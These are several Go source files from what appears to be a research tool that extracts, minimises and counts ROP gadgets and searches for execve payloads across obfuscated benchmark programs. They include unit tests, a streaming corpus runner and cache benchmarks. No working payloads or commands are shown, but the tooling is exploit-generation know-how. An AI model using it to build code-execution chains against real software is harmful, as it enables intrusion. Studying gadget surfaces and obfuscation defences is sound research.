		if got := experiments.PoolSignature(min); got != refSig {
			t.Errorf("parallelism=%d: triage-on pool differs from triage-off reference (%d vs %d gadgets)",
				par, min.Size(), ref.Size())
		}
		if par == 1 {
			if stats.SolverQueries == 0 {
				t.Fatalf("no solver queries issued: %+v", stats)
			}
			// Acceptance criterion: at least 70% of verdict queries are
			// resolved without bit-blasting. (On this corpus the residual
			// queries constant-fold, so the share is 1.0; T1/T2 refutation
			// behaviour is covered by the solver package tests.)
			if share := stats.TriageShare(); share < 0.7 {
				t.Errorf("triage share %.2f < 0.70 (queries=%d blasted=%d)",
					share, stats.SolverQueries, stats.Blasted)
			}
		}
	}
}
