package subsume

import (
	"strings"
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/asm"
	"github.com/nofreelunch/gadget-planner/internal/expr"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
	"github.com/nofreelunch/gadget-planner/internal/symex"
)

// poolFrom builds a gadget pool by extracting from assembled code placed at
// distinct addresses (one section per snippet so offsets do not interfere).
func poolFrom(t *testing.T, snippets ...string) *gadget.Pool {
	t.Helper()
	bin := sbf.New()
	base := uint64(0x10000)
	for i, src := range snippets {
		r, err := asm.Assemble(src, base)
		if err != nil {
			t.Fatalf("snippet %d: %v", i, err)
		}
		bin.AddSection(sbf.Section{
			Name: ".text" + strings.Repeat("x", i), Addr: base,
			Flags: sbf.FlagRead | sbf.FlagExec, Data: r.Code,
		})
		base += 0x10000
	}
	return gadget.Extract(bin, gadget.Options{})
}

func render(p *gadget.Pool) []string {
	var out []string
	for _, g := range p.Gadgets {
		out = append(out, g.String())
	}
	return out
}

func countContaining(p *gadget.Pool, frag string) int {
	n := 0
	for _, g := range p.Gadgets {
		if strings.Contains(g.String(), frag) {
			n++
		}
	}
	return n
}

func TestRemovesDuplicateGadgets(t *testing.T) {
	// The same gadget at two different addresses: one copy survives.
	pool := poolFrom(t, "pop rdi; ret", "pop rdi; ret")
	if got := countContaining(pool, "pop rdi"); got != 2 {
		t.Fatalf("expected 2 pop rdi gadgets before, got %d", got)
	}
	min, stats := Minimize(pool, Options{})
	if got := countContaining(min, "pop rdi"); got != 1 {
		t.Errorf("expected 1 pop rdi gadget after, got %d: %v", got, render(min))
	}
	if stats.RemovedIdent == 0 {
		t.Errorf("stats = %+v", stats)
	}
	if stats.Before <= stats.After {
		t.Errorf("no reduction: %+v", stats)
	}
	if stats.ReductionFactor() <= 1 {
		t.Errorf("reduction factor = %f", stats.ReductionFactor())
	}
}

func TestFoldsSemanticallyIdenticalViaBuilder(t *testing.T) {
	// xor rax, rax and mov rax, 0 both simplify to the constant 0.
	pool := poolFrom(t, "xor rax, rax; ret", "mov rax, 0; ret")
	min, _ := Minimize(pool, Options{})
	n := 0
	for _, g := range min.Gadgets {
		if v, err := expr.Eval(g.Effect.Regs[isa.RAX], expr.Env{"rax0": 77}); err == nil && v == 0 &&
			g.Effect.End == symex.EndRet && g.Effect.StackDelta == 8 && len(g.ClobRegs) == 1 {
			n++
		}
	}
	if n != 1 {
		t.Errorf("rax-zeroing ret gadgets after minimize = %d, want 1\n%v", n, render(min))
	}
}

func TestSolverProvedEquivalence(t *testing.T) {
	// lea rax,[rax+rax] vs shl rax,1: structurally different expressions,
	// semantically equal; only the solver can merge them.
	pool := poolFrom(t, "lea rax, [rax+rax*1]; ret", "shl rax, 1; ret")
	min, stats := Minimize(pool, Options{})
	n := 0
	for _, g := range min.Gadgets {
		// Use a high-bit probe so 32-bit lookalikes do not match.
		if v, err := expr.Eval(g.Effect.Regs[isa.RAX], expr.Env{"rax0": 1 << 62}); err == nil &&
			v == 1<<63 && g.Effect.StackDelta == 8 {
			n++
		}
	}
	if n != 1 {
		t.Errorf("doubling gadgets after minimize = %d, want 1\n%v", n, render(min))
	}
	if stats.RemovedProved == 0 {
		t.Errorf("expected a solver-proved removal: %+v", stats)
	}
}

func TestKeepsWeakerPrecondition(t *testing.T) {
	// Conditional variant (pre: rdx==rbx) of pop rax is subsumed by the
	// unconditional one.
	condSrc := `
    cmp rdx, rbx
    jne 0x90000
    pop rax
    ret
`
	pool := poolFrom(t, condSrc, "pop rax; ret")
	min, _ := Minimize(pool, Options{})
	// Find surviving gadgets that control rax and end ret with delta 16.
	var both []*gadget.Gadget
	for _, g := range min.Gadgets {
		if len(g.CtrlRegs) == 1 && g.CtrlRegs[0] == isa.RAX && g.Effect.End == symex.EndRet {
			both = append(both, g)
		}
	}
	// The conditional and unconditional variants have different stack deltas
	// is false: both pop once + ret (16). The unconditional one must win.
	for _, g := range both {
		if g.Effect.StackDelta == 16 && len(g.Effect.Conds) > 0 {
			t.Errorf("conditional variant survived alongside unconditional: %s", g)
		}
	}
}

func TestDistinctGadgetsKept(t *testing.T) {
	pool := poolFrom(t, "pop rdi; ret", "pop rsi; ret", "pop rdx; ret")
	min, _ := Minimize(pool, Options{})
	for _, frag := range []string{"pop rdi", "pop rsi", "pop rdx"} {
		if got := countContaining(min, frag); got != 1 {
			t.Errorf("%s count = %d, want 1", frag, got)
		}
	}
}

func TestIndexesRebuilt(t *testing.T) {
	pool := poolFrom(t, "pop rdi; ret", "pop rdi; ret")
	min, _ := Minimize(pool, Options{})
	if len(min.ByReg[isa.RDI]) == 0 {
		t.Error("ByReg index empty after minimize")
	}
	for i, g := range min.Gadgets {
		if g.ID != i {
			t.Errorf("gadget %d has ID %d", i, g.ID)
		}
	}
}

func TestFingerprintDeterministic(t *testing.T) {
	pool := poolFrom(t, "pop rdi; add rax, rbx; ret")
	for _, g := range pool.Gadgets {
		f1 := fingerprint(g, 4)
		f2 := fingerprint(g, 4)
		if f1 != f2 {
			t.Fatalf("fingerprint not deterministic for %s", g)
		}
	}
}

func TestFingerprintSeparates(t *testing.T) {
	pool := poolFrom(t, "pop rdi; ret", "pop rsi; ret")
	var a, b *gadget.Gadget
	for _, g := range pool.Gadgets {
		if strings.Contains(g.String(), "pop rdi") {
			a = g
		}
		if strings.Contains(g.String(), "pop rsi") {
			b = g
		}
	}
	if a == nil || b == nil {
		t.Fatal("gadgets missing")
	}
	if fingerprint(a, 4) == fingerprint(b, 4) {
		t.Error("different gadgets share a fingerprint")
	}
}

func TestSyscallGadgetsSurvive(t *testing.T) {
	pool := poolFrom(t, "syscall", "pop rax; syscall")
	min, _ := Minimize(pool, Options{})
	if len(min.Syscalls) == 0 {
		t.Error("syscall gadgets lost in minimization")
	}
}
