package experiments

// The streaming corpus runner: the scale-out path from the 16-program
// hand-written suite to a generated corpus of hundreds of (program ×
// obfuscation × planner-config) cells. Three properties distinguish it from
// the table experiments in tables.go:
//
//   - Bounded memory. Cells flow generator → bounded spec channel → worker
//     pool → in-order collector; results are emitted incrementally as JSONL
//     rows plus rolling aggregate tables, and the artifact store's memory
//     tier is LRU-bounded (pipeline.Store.LimitMemory), so a cell's
//     artifacts are released once its neighbors stop sharing them and peak
//     memory is flat in cell count. Nothing ever materializes the full
//     matrix.
//   - Backpressure. The generator produces programs lazily and blocks when
//     the analysis pool falls behind; workers block when the collector
//     does. The reorder buffer in the collector is bounded by the number of
//     in-flight cells.
//   - Distributional output. Per-(class, configuration) aggregates report
//     mean/median/CI95 gadget counts over the whole corpus — the
//     statistical form of the paper's Table VI/VII claims — and are
//     byte-identical at any worker count and with the store on or off.

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"math"
	"os"
	"runtime"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/core"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/pipeline"
	"github.com/nofreelunch/gadget-planner/internal/planner"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
)

// Stream arms: every (program, configuration) pair is analyzed under two
// planner configs — a scan-only arm (extraction + minimization + the
// classic gadget count + a per-cell output-stability check) and a planning
// arm (an execve search with a small budget). Arms double as planner
// configurations in the cell matrix.
const (
	armScan = "scan"
	armPlan = "plan"
)

var streamArms = []string{armScan, armPlan}

// cellsPerProgram is the matrix width of one generated program.
func cellsPerProgram() int { return len(Configs()) * len(streamArms) }

// StreamOptions scope one streaming corpus run.
type StreamOptions struct {
	// Ctx cancels the run: the generator stops producing, workers stop
	// picking up cells, and RunStream returns the context's error. A cell
	// already inside a pipeline stage runs that stage to completion
	// (artifacts are shared and never cached half-finished; see
	// pipeline.DoCtx), so cancellation is stage-granular, not instant.
	Ctx context.Context
	// Cells is the target cell count; it is rounded up to whole programs
	// (each generated program spans len(Configs())*2 cells). Default 216,
	// or 24 with Quick.
	Cells int
	// Seed is the corpus base seed (program i is generated from Seed+i)
	// and the obfuscation seed.
	Seed int64
	// Parallelism sizes the analysis worker pool (0 = all cores).
	// Aggregate tables are byte-identical at every setting.
	Parallelism int
	// Planner is the planning arm's search budget; defaults keep cells
	// cheap (MaxPlans 2, MaxNodes 800).
	Planner planner.Options
	// Store is the artifact store cells run through; nil gets a private
	// caching store bounded to MemBudget entries.
	Store *pipeline.Store
	// MemBudget bounds the private store's memory tier when Store is nil
	// (default 48 entries).
	MemBudget int
	// Rows receives one JSON line per cell, in cell order; nil discards.
	Rows io.Writer
	// Quick trims the default cell count for smoke runs.
	Quick bool
}

func (o StreamOptions) withDefaults() StreamOptions {
	if o.Ctx == nil {
		o.Ctx = context.Background()
	}
	if o.Cells <= 0 {
		if o.Quick {
			o.Cells = 24
		} else {
			o.Cells = 216
		}
	}
	if o.Seed == 0 {
		o.Seed = 1000
	}
	if o.Parallelism <= 0 {
		o.Parallelism = runtime.GOMAXPROCS(0)
	}
	if o.MemBudget <= 0 {
		o.MemBudget = 48
	}
	if o.Store == nil {
		o.Store = pipeline.NewStore().LimitMemory(o.MemBudget)
	}
	if o.Planner.MaxPlans == 0 {
		o.Planner.MaxPlans = 2
	}
	if o.Planner.MaxNodes == 0 {
		o.Planner.MaxNodes = 800
	}
	if o.Planner.Timeout == 0 {
		o.Planner.Timeout = 10 * time.Second
	}
	return o
}

// StreamRow is one cell's JSONL record. Timing fields are wall-clock and
// vary run to run; every other field is deterministic.
type StreamRow struct {
	Cell      int     `json:"cell"`
	Program   string  `json:"program"`
	Class     string  `json:"class"`
	Obf       string  `json:"obf"`
	Arm       string  `json:"arm"`
	TextBytes int     `json:"text_bytes"`
	Gadgets   int     `json:"gadgets,omitempty"`  // scan arm
	RawPool   int     `json:"raw_pool,omitempty"` // scan arm
	Pool      int     `json:"pool"`
	Payloads  int     `json:"payloads,omitempty"` // plan arm
	OutputOK  bool    `json:"output_ok"`          // scan arm: obf output == plain output
	Millis    float64 `json:"ms"`
}

// cellSpec addresses one cell of the streamed matrix.
type cellSpec struct {
	idx   int
	prog  benchprog.Program
	class string
	cfg   int // index into Configs()
	arm   string
}

// streamAgg accumulates one (class, configuration) group's rolling
// aggregates. Values are appended in cell order, so float reductions are
// deterministic at any parallelism.
type streamAgg struct {
	class, obf string
	scanCells  int
	gadgets    []float64
	rawSum     int
	poolSum    int
	textSum    int
	outputBad  int
	planCells  int
	planPool   int
	payloads   int
}

// StreamRun is one streamed pass's outcome.
type StreamRun struct {
	Cells    int     `json:"cells"`
	Programs int     `json:"programs"`
	Seconds  float64 `json:"seconds"`
	// CellsPerSec is the pass's throughput — the corpus benchmark's
	// headline number.
	CellsPerSec float64 `json:"cells_per_sec"`
	// Table is the deterministic aggregate rendering (no timing fields);
	// byte-identical across parallelism and store configurations.
	Table string `json:"-"`
	// PeakHeapBytes and QuarterPeakHeapBytes are sampled live-heap peaks
	// over the whole pass and its first quarter; flat memory means the two
	// stay close even though four times the cells flowed through.
	PeakHeapBytes        uint64 `json:"peak_heap_bytes"`
	QuarterPeakHeapBytes uint64 `json:"quarter_peak_heap_bytes"`
	// OutputFailures counts scan cells whose obfuscated build did not
	// reproduce the plain build's output (generator safety contract: 0).
	OutputFailures int `json:"output_failures"`
	RowsWritten    int `json:"rows_written"`
}

// RunStream fans the generated-corpus matrix through the artifact store
// with a bounded worker pool and streaming collection. See the package
// comment at the top of this file for the architecture.
func RunStream(opts StreamOptions) (*StreamRun, error) {
	opts = opts.withDefaults()
	perProg := cellsPerProgram()
	nProgs := (opts.Cells + perProg - 1) / perProg
	nCells := nProgs * perProg

	start := time.Now()

	// Generator: programs are materialized lazily, one at a time; the
	// bounded channel is the generation↔analysis backpressure.
	specs := make(chan cellSpec, opts.Parallelism)
	classes := benchprog.SizeClasses()
	mix := []int{0, 0, 0, 1, 1, 2}
	go func() {
		defer close(specs)
		idx := 0
		for pi := 0; pi < nProgs; pi++ {
			stop := pipeline.TrackWall("generate")
			class := classes[mix[pi%len(mix)]]
			p := benchprog.Generate(opts.Seed+int64(pi), class)
			stop()
			for cfg := range Configs() {
				for _, arm := range streamArms {
					select {
					case specs <- cellSpec{idx: idx, prog: p, class: class.Name, cfg: cfg, arm: arm}:
					case <-opts.Ctx.Done():
						return
					}
					idx++
				}
			}
		}
	}()

	// Workers: bounded analysis pool.
	results := make(chan streamResult, opts.Parallelism)
	var wg sync.WaitGroup
	for w := 0; w < opts.Parallelism; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for spec := range specs {
				if err := opts.Ctx.Err(); err != nil {
					results <- streamResult{idx: spec.idx, err: err}
					continue
				}
				row, err := runStreamCell(opts, spec)
				results <- streamResult{idx: spec.idx, row: row, err: err}
			}
		}()
	}
	go func() {
		wg.Wait()
		close(results)
	}()

	// Collector: reorders to cell order (the buffer is bounded by the
	// in-flight cell count), writes JSONL incrementally, folds rolling
	// aggregates, and samples the live heap.
	res := &StreamRun{Cells: nCells, Programs: nProgs}
	aggs := map[string]*streamAgg{}
	var aggOrder []string
	errs := make([]error, nCells)
	var enc *json.Encoder
	if opts.Rows != nil {
		enc = json.NewEncoder(opts.Rows)
	}
	pending := map[int]StreamRow{}
	next := 0
	var ms runtime.MemStats
	sampleHeap := func(cell int) {
		if cell%4 != 0 {
			return
		}
		runtime.ReadMemStats(&ms)
		if ms.HeapAlloc > res.PeakHeapBytes {
			res.PeakHeapBytes = ms.HeapAlloc
		}
		if cell <= nCells/4 && ms.HeapAlloc > res.QuarterPeakHeapBytes {
			res.QuarterPeakHeapBytes = ms.HeapAlloc
		}
	}
	collect := func(row StreamRow) {
		if enc != nil {
			stop := pipeline.TrackWall("jsonl")
			enc.Encode(row)
			stop()
			res.RowsWritten++
		}
		key := row.Class + "|" + row.Obf
		agg, ok := aggs[key]
		if !ok {
			agg = &streamAgg{class: row.Class, obf: row.Obf}
			aggs[key] = agg
			aggOrder = append(aggOrder, key)
		}
		switch row.Arm {
		case armScan:
			agg.scanCells++
			agg.gadgets = append(agg.gadgets, float64(row.Gadgets))
			agg.rawSum += row.RawPool
			agg.poolSum += row.Pool
			agg.textSum += row.TextBytes
			if !row.OutputOK {
				agg.outputBad++
				res.OutputFailures++
			}
		case armPlan:
			agg.planCells++
			agg.planPool += row.Pool
			agg.payloads += row.Payloads
		}
		sampleHeap(row.Cell)
	}
	for r := range results {
		errs[r.idx] = r.err
		pending[r.idx] = r.row
		for {
			row, ok := pending[next]
			if !ok {
				break
			}
			delete(pending, next)
			collect(row)
			next++
		}
	}
	for _, err := range errs {
		if err != nil {
			return nil, err
		}
	}
	// A canceled run that raced to completion anyway still reports the
	// cancellation — callers asked for it.
	if err := opts.Ctx.Err(); err != nil {
		return nil, err
	}

	res.Seconds = time.Since(start).Seconds()
	if res.Seconds > 0 {
		res.CellsPerSec = float64(nCells) / res.Seconds
	}
	res.Table = renderStreamAggs(aggs, aggOrder)
	return res, nil
}

type streamResult struct {
	idx int
	row StreamRow
	err error
}

// runStreamCell executes one matrix cell through the store.
func runStreamCell(opts StreamOptions, spec cellSpec) (StreamRow, error) {
	start := time.Now()
	cfg := Configs()[spec.cfg]
	row := StreamRow{
		Cell:    spec.idx,
		Program: spec.prog.Name,
		Class:   spec.class,
		Obf:     cfg.Name,
		Arm:     spec.arm,
	}
	bin, _, err := pipeline.BuildCtx(opts.Ctx, opts.Store, spec.prog, cfg.Passes(), opts.Seed)
	if err != nil {
		return row, fmt.Errorf("experiments: stream build %s|%s: %w", spec.prog.Name, cfg.Name, err)
	}
	row.TextBytes = bin.CodeSize()

	switch spec.arm {
	case armScan:
		row.Gadgets = gadget.TotalCount(pipeline.Count(opts.Store, bin, 10))
		a := core.Analyze(bin, core.Config{Parallelism: 1, Store: opts.Store})
		row.RawPool, row.Pool = a.RawPool.Size(), a.Pool.Size()
		ok, err := streamOutputStable(opts, spec.prog, bin)
		if err != nil {
			return row, err
		}
		row.OutputOK = ok
	case armPlan:
		a := core.Analyze(bin, core.Config{Planner: opts.Planner, Parallelism: 1, Store: opts.Store})
		atk := a.FindPayloads(planner.ExecveGoal())
		row.Pool = a.Pool.Size()
		row.Payloads = len(atk.Payloads)
		row.OutputOK = true
	}
	row.Millis = float64(time.Since(start).Microseconds()) / 1000
	return row, nil
}

// streamMaxSteps caps per-cell emulator replays; generated programs finish
// in well under a million steps even virtualized.
const streamMaxSteps = 80_000_000

// streamOutputStable enforces the generator's validation contract per cell:
// the cell's build must reproduce the plain build's output exactly. The
// plain build comes from the store (shared with the cell's five sibling
// cells); the two emulator replays are the per-cell ground-truth check.
func streamOutputStable(opts StreamOptions, p benchprog.Program, bin *sbf.Binary) (bool, error) {
	defer pipeline.TrackWall("emu-replay")()
	plain, _, err := pipeline.BuildCtx(opts.Ctx, opts.Store, p, nil, opts.Seed)
	if err != nil {
		return false, fmt.Errorf("experiments: stream plain build %s: %w", p.Name, err)
	}
	ref, err := benchprog.RunOutput(plain, p, streamMaxSteps)
	if err != nil {
		return false, fmt.Errorf("experiments: stream plain run %s: %w", p.Name, err)
	}
	out, err := benchprog.RunOutput(bin, p, streamMaxSteps)
	if err != nil {
		return false, fmt.Errorf("experiments: stream obf run %s: %w", p.Name, err)
	}
	return ref != "" && out == ref, nil
}

// renderStreamAggs renders the rolling aggregate table: one row per
// (class, configuration) with distributional gadget statistics from the
// scan arm and payload totals from the planning arm. Deliberately free of
// timing fields so the rendering is byte-identical at any parallelism and
// store configuration.
func renderStreamAggs(aggs map[string]*streamAgg, order []string) string {
	defer pipeline.TrackWall("render")()
	// Group by class in generator mix order, then configuration order.
	sort.SliceStable(order, func(i, j int) bool {
		a, b := aggs[order[i]], aggs[order[j]]
		if a.class != b.class {
			return classOrder(a.class) < classOrder(b.class)
		}
		return configOrder(a.obf) < configOrder(b.obf)
	})
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-8s %-10s %6s %10s %10s %10s %9s %9s %9s %7s %7s\n",
		"Class", "Obf", "Cells", "GadgMean", "GadgMed", "GadgCI95", "RawPool", "Pool", "Text(B)", "Paylds", "OutBad")
	for _, k := range order {
		a := aggs[k]
		mean, med, ci := distStats(a.gadgets)
		cells := a.scanCells + a.planCells
		fmt.Fprintf(&sb, "%-8s %-10s %6d %10.1f %10.1f %10.1f %9.1f %9.1f %9.1f %7d %7d\n",
			a.class, a.obf, cells, mean, med, ci,
			avg(a.rawSum, a.scanCells), avg(a.poolSum, a.scanCells), avg(a.textSum, a.scanCells),
			a.payloads, a.outputBad)
	}
	return sb.String()
}

func classOrder(name string) int {
	for i, c := range benchprog.SizeClasses() {
		if c.Name == name {
			return i
		}
	}
	return len(benchprog.SizeClasses())
}

func avg(sum, n int) float64 {
	if n == 0 {
		return 0
	}
	return float64(sum) / float64(n)
}

// distStats returns mean, median, and the 95% confidence half-width of a
// sample, appended in deterministic order by the collector.
func distStats(vals []float64) (mean, median, ci95 float64) {
	n := len(vals)
	if n == 0 {
		return 0, 0, 0
	}
	var sum float64
	for _, v := range vals {
		sum += v
	}
	mean = sum / float64(n)
	var sq float64
	for _, v := range vals {
		sq += (v - mean) * (v - mean)
	}
	sorted := append([]float64(nil), vals...)
	sort.Float64s(sorted)
	if n%2 == 1 {
		median = sorted[n/2]
	} else {
		median = (sorted[n/2-1] + sorted[n/2]) / 2
	}
	if n > 1 {
		sd := math.Sqrt(sq / float64(n-1))
		ci95 = 1.96 * sd / math.Sqrt(float64(n))
	}
	return mean, median, ci95
}

// readPeakRSS reports the process's peak resident set (VmHWM) in bytes, or
// 0 where /proc is unavailable.
func readPeakRSS() int64 {
	data, err := os.ReadFile("/proc/self/status")
	if err != nil {
		return 0
	}
	for _, line := range strings.Split(string(data), "\n") {
		if !strings.HasPrefix(line, "VmHWM:") {
			continue
		}
		fields := strings.Fields(line)
		if len(fields) < 2 {
			return 0
		}
		kb, err := strconv.ParseInt(fields[1], 10, 64)
		if err != nil {
			return 0
		}
		return kb * 1024
	}
	return 0
}
