package experiments

import (
	"fmt"
	"os"
	"strings"
	"time"

	"github.com/nofreelunch/gadget-planner/internal/pipeline"
)

// DiskBench is the machine-readable persistent-store benchmark
// (BENCH_DISK.json): the deterministic experiment suite run against a
// disk-backed store cold (populating the cache directory), warm in-process
// (served from memory), and warm across processes — a second store with all
// in-memory state fresh, reading the first store's on-disk artifacts, which
// is exactly what a new CLI invocation sees. A no-disk arm pins the A/B
// byte-identity claim behind the -nodisk flag.
type DiskBench struct {
	Quick bool `json:"quick"`

	ColdSeconds        float64 `json:"cold_seconds"`
	WarmSeconds        float64 `json:"warm_seconds"`
	WarmAcrossSeconds  float64 `json:"warm_across_process_seconds"`
	SpeedupInProcess   float64 `json:"speedup_in_process"`
	SpeedupAcross      float64 `json:"speedup_across_process"`
	ExtractDiskHitRate float64 `json:"extract_disk_hit_rate"`

	// ColdStages is the first store's per-stage view after the cold pass
	// (disk misses here are the writes that populate the cache).
	ColdStages []pipeline.StageStats `json:"cold_stages"`
	// AcrossStages is the second store's per-stage view: every miss of its
	// empty memory tier that the disk served shows up as a disk hit.
	AcrossStages []pipeline.StageStats `json:"across_stages"`
	// Disk is the second store's disk-tier counter snapshot.
	Disk pipeline.DiskStats `json:"disk"`

	// TablesIdentical: warm (in-process and across-process) renderings are
	// byte-identical to the cold pass's.
	TablesIdentical bool `json:"tables_identical"`
	// NoDiskIdentical: a memory-only store (the -nodisk arm) renders the
	// same bytes as every disk-backed pass.
	NoDiskIdentical bool `json:"nodisk_identical"`
}

// BenchDisk measures the persistent tier on the deterministic suite. The
// headline number is the warm-across-process pass: a fresh store over the
// same cache directory, standing in for a second process — every artifact
// it is served went through a full encode → file → decode round trip, and
// its tables must be byte-identical to the cold run's.
func BenchDisk(opts Options) (*DiskBench, error) {
	opts = opts.withDefaults()
	dir, err := os.MkdirTemp("", "gp-diskbench-*")
	if err != nil {
		return nil, err
	}
	defer os.RemoveAll(dir)

	disk, err := pipeline.OpenDisk(dir, pipeline.DiskOptions{})
	if err != nil {
		return nil, err
	}
	opts.Store = pipeline.NewStore().WithDisk(disk) // private store: cold means cold

	start := time.Now()
	cold, err := CacheSuite(opts)
	if err != nil {
		return nil, err
	}
	coldSecs := time.Since(start).Seconds()
	coldStats := opts.Store.Stats()

	start = time.Now()
	warm, err := CacheSuite(opts)
	if err != nil {
		return nil, err
	}
	warmSecs := time.Since(start).Seconds()

	// "Second process": a fresh store and a fresh disk handle over the same
	// directory. All in-memory state is new, so every artifact comes off
	// disk — the cross-process read path, minus the exec.
	disk2, err := pipeline.OpenDisk(dir, pipeline.DiskOptions{})
	if err != nil {
		return nil, err
	}
	opts.Store = pipeline.NewStore().WithDisk(disk2)
	start = time.Now()
	across, err := CacheSuite(opts)
	if err != nil {
		return nil, err
	}
	acrossSecs := time.Since(start).Seconds()
	acrossStats := opts.Store.Stats()

	// The -nodisk A/B arm: memory-only store, recomputes everything.
	opts.Store = pipeline.NewStore()
	nodisk, err := CacheSuite(opts)
	if err != nil {
		return nil, err
	}

	res := &DiskBench{
		Quick:             opts.Quick,
		ColdSeconds:       coldSecs,
		WarmSeconds:       warmSecs,
		WarmAcrossSeconds: acrossSecs,
		SpeedupInProcess:  speedup(coldSecs, warmSecs),
		SpeedupAcross:     speedup(coldSecs, acrossSecs),
		ColdStages:        coldStats,
		AcrossStages:      acrossStats,
		Disk:              disk2.Stats(),
		TablesIdentical:   cold == warm && cold == across,
		NoDiskIdentical:   cold == nodisk,
	}
	res.ExtractDiskHitRate = acrossStats[pipeline.StageExtract].DiskHitRate()
	return res, nil
}

// RenderDiskBench prints the benchmark as a table.
func RenderDiskBench(b *DiskBench) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "disk bench: cold %.2fs, warm %.2fs (%.2fx), across-process %.2fs (%.2fx)\n",
		b.ColdSeconds, b.WarmSeconds, b.SpeedupInProcess, b.WarmAcrossSeconds, b.SpeedupAcross)
	fmt.Fprintf(&sb, "tables identical: %v, nodisk arm identical: %v, extract disk hit rate: %.0f%%\n",
		b.TablesIdentical, b.NoDiskIdentical, 100*b.ExtractDiskHitRate)
	fmt.Fprintf(&sb, "disk: %.1f MB in %d artifacts written, %.1f MB read back, %d evicted, %d corrupt\n",
		float64(b.Disk.SizeBytes)/1e6, countWrites(b.ColdStages),
		float64(b.Disk.BytesRead)/1e6, b.Disk.Evictions, b.Disk.Corrupt)
	fmt.Fprintf(&sb, "%-10s %14s %16s %14s\n", "Stage", "Cold h/m", "Across dh/dm", "Compute(s)")
	across := make(map[string]pipeline.StageStats, len(b.AcrossStages))
	for _, s := range b.AcrossStages {
		across[s.Stage] = s
	}
	for _, s := range b.ColdStages {
		if s.Hits == 0 && s.Misses == 0 {
			continue
		}
		a := across[s.Stage]
		fmt.Fprintf(&sb, "%-10s %14s %16s %14.3f\n", s.Stage,
			fmt.Sprintf("%d/%d", s.Hits, s.Misses),
			fmt.Sprintf("%d/%d", a.DiskHits, a.DiskMisses),
			s.ComputeSeconds)
	}
	return sb.String()
}

// countWrites counts cold-pass computations with persistable keys — each
// one became a disk artifact.
func countWrites(stages []pipeline.StageStats) int64 {
	var n int64
	for _, s := range stages {
		n += s.Misses
	}
	return n
}
