package experiments

import (
	"fmt"
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/pipeline"
)

// TestCacheMatrixTablesIdentical is the store's soundness matrix: the full
// deterministic suite (Fig. 1, Table I, Table IV/V, pool composition) must
// render byte-identically with the artifact store enabled and disabled, at
// every parallelism setting — i.e. caching is invisible everywhere except
// wall-clock. Within each store-enabled run the experiments share builds,
// scans, and pools, so any unsound sharing (a mutated artifact, an aliased
// key, a parallelism-dependent result leaking into a cached cell) shows up
// as a table diff.
func TestCacheMatrixTablesIdentical(t *testing.T) {
	var ref string
	for _, par := range []int{1, 2, 8} {
		for _, caching := range []bool{true, false} {
			opts := quickOpts()
			opts.Parallelism = par
			if caching {
				opts.Store = pipeline.NewStore()
			} else {
				opts.Store = pipeline.NewDisabledStore()
			}
			out, err := CacheSuite(opts)
			if err != nil {
				t.Fatalf("parallelism=%d caching=%v: %v", par, caching, err)
			}
			if ref == "" {
				ref = out
				continue
			}
			if out != ref {
				t.Errorf("parallelism=%d caching=%v: tables differ from reference\n%s",
					par, caching, diffHint(ref, out))
			}
			if caching {
				// The suite must actually exercise the store, or this
				// matrix proves nothing.
				var hits int64
				for _, st := range opts.Store.Stats() {
					hits += st.Hits
				}
				if hits == 0 {
					t.Errorf("parallelism=%d: store-enabled suite saw no hits", par)
				}
			}
		}
	}
}

// diffHint points at the first differing line of two renders.
func diffHint(a, b string) string {
	la, lb := splitLines(a), splitLines(b)
	for i := 0; i < len(la) && i < len(lb); i++ {
		if la[i] != lb[i] {
			return fmt.Sprintf("line %d:\n  ref: %s\n  got: %s", i+1, la[i], lb[i])
		}
	}
	return fmt.Sprintf("lengths differ: %d vs %d lines", len(la), len(lb))
}

func splitLines(s string) []string {
	var out []string
	start := 0
	for i := 0; i < len(s); i++ {
		if s[i] == '\n' {
			out = append(out, s[start:i])
			start = i + 1
		}
	}
	if start < len(s) {
		out = append(out, s[start:])
	}
	return out
}

// TestBenchCacheQuick runs the cold/warm cache benchmark on the trimmed
// corpus and pins the BENCH_CACHE.json invariants the Makefile target
// relies on: identical tables, and nonzero cross-experiment sharing.
func TestBenchCacheQuick(t *testing.T) {
	opts := quickOpts()
	opts.Quick = true
	res, err := BenchCache(opts)
	if err != nil {
		t.Fatal(err)
	}
	if !res.TablesIdentical {
		t.Error("warm tables differ from cold tables")
	}
	if res.CrossExperimentHits == 0 {
		t.Error("cold pass saw no cross-experiment hits")
	}
	if res.WarmHitRate == 0 {
		t.Error("warm pass hit rate is zero")
	}
	if RenderCacheBench(res) == "" {
		t.Error("empty render")
	}
}

// TestBenchDiskQuick runs the persistent-store benchmark on the trimmed
// corpus and pins the BENCH_DISK.json invariants the Makefile target relies
// on: identical tables in every arm (including -nodisk), and a
// warm-across-process pass genuinely served from disk.
func TestBenchDiskQuick(t *testing.T) {
	opts := quickOpts()
	opts.Quick = true
	res, err := BenchDisk(opts)
	if err != nil {
		t.Fatal(err)
	}
	if !res.TablesIdentical {
		t.Error("warm tables differ from cold tables")
	}
	if !res.NoDiskIdentical {
		t.Error("-nodisk arm tables differ")
	}
	if res.ExtractDiskHitRate == 0 {
		t.Error("across-process pass had no extraction disk hits")
	}
	if res.Disk.BytesRead == 0 || res.Disk.SizeBytes == 0 {
		t.Errorf("disk counters unmoved: %+v", res.Disk)
	}
	if res.Disk.Corrupt != 0 {
		t.Errorf("%d artifacts read back corrupt", res.Disk.Corrupt)
	}
	if RenderDiskBench(res) == "" {
		t.Error("empty render")
	}
}
