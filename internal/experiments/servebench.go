package experiments

// The analysis-service benchmark (BENCH_SERVE.json): what N clients gain
// from one warm shared cache. The cold baseline is the per-process cost —
// every request analyzed in a fresh store, which is exactly what N
// independent CLI invocations pay. The served arms run the same requests
// through one gpd-style server over a unix socket, where the first client
// to touch an artifact computes it and everyone else hits the warm store.
